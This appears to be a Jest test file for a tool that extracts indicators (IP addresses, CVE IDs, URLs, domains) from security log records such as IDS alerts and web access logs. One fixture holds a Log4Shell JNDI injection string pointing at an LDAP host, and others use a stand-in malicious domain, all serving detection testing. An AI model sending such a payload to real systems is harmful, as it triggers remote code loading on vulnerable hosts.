import { describe, expect, it } from '@jest/globals';
import { readerOf } from '../read-content/readers.js';

async function read(record: object) {
  const part = { path: 'a', name: '', mediaType: '', charset: '', bytes: Buffer.from(JSON.stringify([record])) };
  const surroundings = { columns: undefined, receivedAt: new Date(0), warn: () => undefined };
  const found: string[] = [];
  for await (const { observables, type } of readerOf(part)?.read(part, surroundings) ?? [])
    found.push(...observables.map(({ value }) => value), type);
  return found;
}

describe('the words of a record', () => {
  it('name the weakness that was tried, and where the host that was hit should have fetched from', async () => {
    const request = '/?x=${jndi:ldap://192.0.2.8:1389/a}';
    const alert = { category: 'Attempted break-in', signature: 'Log4j attempt (CVE-2021-44228)' };
    const record = { event_type: 'alert', src_ip: '192.0.2.7', dest_ip: '198.51.100.1', alert, http: { url: request } };
    expect(await read(record)).toEqual([
      '192.0.2.7',
      'CVE-2021-44228',
      'ldap://192.0.2.8:1389/a',
      '192.0.2.8',
      'Attempted break-in',
    ]);
  });

  it('name nothing by themselves', async () => {
    await expect(read({ category: 'CVE-2021-44228', dest_ip: '198.51.100.1' })).rejects.toThrow('no field of it names');
  });

  it('tell of a request, whose host is of who was asked', async () => {
    const line = {
      time: '2026-11-01T12:00:00Z',
      remote_addr: '192.0.2.7',
      host: 'www.example.org',
      request: 'GET /a HTTP/1.1',
    };
    expect(await read(line)).toEqual(['192.0.2.7', '']);
    const shipped = {
      '@timestamp': '2026-11-01T12:00:00Z',
      source: { ip: '192.0.2.7' },
      host: { name: 'www.example.org' },
    };
    expect(await read({ _index: 'a', _source: shipped })).toEqual(['192.0.2.7', '']);
    const visited = { '@timestamp': '2026-11-01T12:00:00Z', src_ip: '192.0.2.7', domain: 'evil.example.net' };
    expect(await read(visited)).toEqual(['192.0.2.7', 'evil.example.net', '']);
    expect(await read({ remote_addr: '192.0.2.7', host: 'evil.example.net' })).toEqual([
      '192.0.2.7',
      'evil.example.net',
      '',
    ]);
  });
});
